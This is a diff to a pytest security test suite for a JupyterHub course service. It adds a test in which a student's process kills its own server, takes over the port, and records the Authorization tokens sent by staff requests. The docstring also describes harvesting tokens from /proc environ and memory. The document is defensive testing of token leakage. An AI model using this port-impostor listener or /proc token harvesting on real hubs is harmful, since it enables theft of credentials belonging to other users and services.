@@ -3,7 +3,7 @@
 Everything that reaches a student's course server is theirs to read: the headers of
 every request (the kernel census and "stop kernel" of the staff servers page ask their
 server for its kernels) and the memory and environment of every process running
-under their uid. Two attacks, each against a hub whose servers are forked from the
+under their uid. Three attacks, each against a hub whose servers are forked from the
 template (the default) and one whose servers start cold:
 
 - the student drops code that records every request's headers into each place a
@@ -13,7 +13,9 @@ template (the default) and one whose servers start cold:
   workspace), restarts their server, and waits for the census and for a staff member
   to stop one of their kernels;
 - the student reads `/proc/<pid>/environ` and `/proc/<pid>/mem` of every process their
-  uid owns (the server, forked from a root template, and the kernels).
+  uid owns (the server, forked from a root template, and the kernels);
+- the student kills their server and answers on its port themselves, as a server
+  would, recording every request: this needs no code in the server at all.
 
 Every token found is tried on the hub API (list users), on another student's server
 and on a staff-only API of the coursehub service: each must fail.
@@ -187,10 +189,10 @@ def _restart_server(hub: hubproc.RunningHub, user: str, token: str) -> None:
     """What a student does from the hub's home page: stop their server, start it."""
     api = f"{hub.url}/hub/api/users/{user}/servers/{COURSE}"
     auth = {"Authorization": f"token {token}"}
-    assert httpx.delete(api, headers=auth).status_code in (202, 204)
+    assert httpx.delete(api, headers=auth, timeout=60).status_code in (202, 204)
     deadline = time.monotonic() + 60
     while time.monotonic() < deadline:
-        model = httpx.get(f"{hub.url}/hub/api/users/{user}", headers=auth).json()
+        model = httpx.get(f"{hub.url}/hub/api/users/{user}", headers=auth, timeout=30).json()
         if COURSE not in (model.get("servers") or {}):
             break
         time.sleep(0.3)
@@ -210,6 +212,7 @@ def _staff_stop_a_kernel(hub: hubproc.RunningHub, user: str, token: str) -> None
         f"{_server_url(hub, user)}api/kernels",
         json={"name": "python3"},
         headers={"Authorization": f"token {token}"},
+        timeout=60,
     )
     made.raise_for_status()
     kernel = made.json()["id"]
@@ -305,3 +308,100 @@ def test_tokens_in_the_memory_of_the_students_processes_open_only_their_server(
     assert valid, out  # the attack was made: the server's own token at least
     leaked = {t[:6]: _powers(hub, t) for t in valid}
     assert not any(leaked.values()), (leaked, out["stdout"][-3000:])
+
+
+# The student's listener: it takes over the server's port and answers as a server would,
+# recording the headers of every request the proxy sends it.
+IMPOSTOR = r"""
+import json, os, signal, socket, sys, time
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from urllib.parse import urlsplit
+
+port = urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"]).port
+server_pid = int(os.environ["JPY_PARENT_PID"])
+captures = sys.argv[1]
+time.sleep(1)  # the kernel's answer reaches the test first
+os.kill(server_pid, signal.SIGKILL)
+
+class Handler(BaseHTTPRequestHandler):
+    def _answer(self, code, body=b""):
+        with open(captures, "a") as out:
+            record = {"variant": "impostor", "uri": self.path,
+                      "authorization": self.headers.get("Authorization", "")}
+            out.write(json.dumps(record) + "\n")
+        self.send_response(code)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def do_GET(self):
+        kernel = {"id": "impostor-kernel", "name": "python3", "execution_state": "busy",
+                  "last_activity": "2026-01-01T00:00:00Z", "connections": 1}
+        answer = [kernel] if self.path.endswith("/api/kernels") else {}
+        self._answer(200, json.dumps(answer).encode())
+    def do_DELETE(self):
+        self._answer(204)
+    def log_message(self, *args):
+        pass
+
+class Server(HTTPServer):
+    allow_reuse_address = True
+
+deadline = time.monotonic() + 10
+while True:
+    try:
+        httpd = Server(("127.0.0.1", port), Handler)
+        break
+    except OSError:
+        if time.monotonic() > deadline:
+            raise
+        time.sleep(0.01)
+httpd.timeout = 1
+end = time.monotonic() + 120
+while time.monotonic() < end:
+    httpd.handle_request()
+"""
+
+LAUNCH_IMPOSTOR = """
+import os, subprocess, sys
+script = os.path.expanduser("~/impostor.py")
+with open(script, "w") as f:
+    f.write({impostor!r})
+subprocess.Popen([sys.executable, script, {captures!r}], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+print("launched")
+"""
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="the census and stop kernel send the service's hub token to whatever answers "
+    "on the student's server's port",
+)
+def test_a_listener_in_place_of_the_students_server_gets_no_token_beyond_it(
+    hub: hubproc.RunningHub,
+) -> None:
+    _ensure_server(hub, "bob")
+    _ensure_server(hub, "alice")
+    alice = hub.user_token("alice")
+    captures = _home(hub, "alice") / ".impostor-requests"
+    launch = LAUNCH_IMPOSTOR.format(impostor=IMPOSTOR, captures=str(captures))
+    out = run_code(_server_url(hub, "alice"), alice, launch)
+    assert "launched" in out["stdout"], out
+    # the listener answers for alice's server: the census finds its kernel, and the
+    # instructor stops it from the servers page
+    ines = login(hub.url, "ines", USERS["ines"])
+    url = f"{SERVICE}/course/{COURSE}/staff/servers"
+    deadline = time.monotonic() + 60
+    while "impostor-kernel" not in (page := ines.get(url, follow_redirects=True)).text:
+        assert time.monotonic() < deadline, f"{page.text[-3000:]}\n{hub.log_tail()}"
+        time.sleep(0.5)
+    stopped = ines.post(
+        f"{url}/alice/kernels/impostor-kernel/stop", data={"_xsrf": _xsrf(page.text)}
+    )
+    assert stopped.status_code == 303, stopped.text
+    records = [json.loads(line) for line in captures.read_text().splitlines()]
+    tokens = {r["authorization"].split()[-1] for r in records if r["authorization"]}
+    assert tokens, records  # the attack was made: the service's requests came to it
+    leaked = {t[:6]: _powers(hub, t) for t in tokens}
+    assert not any(leaked.values()), leaked
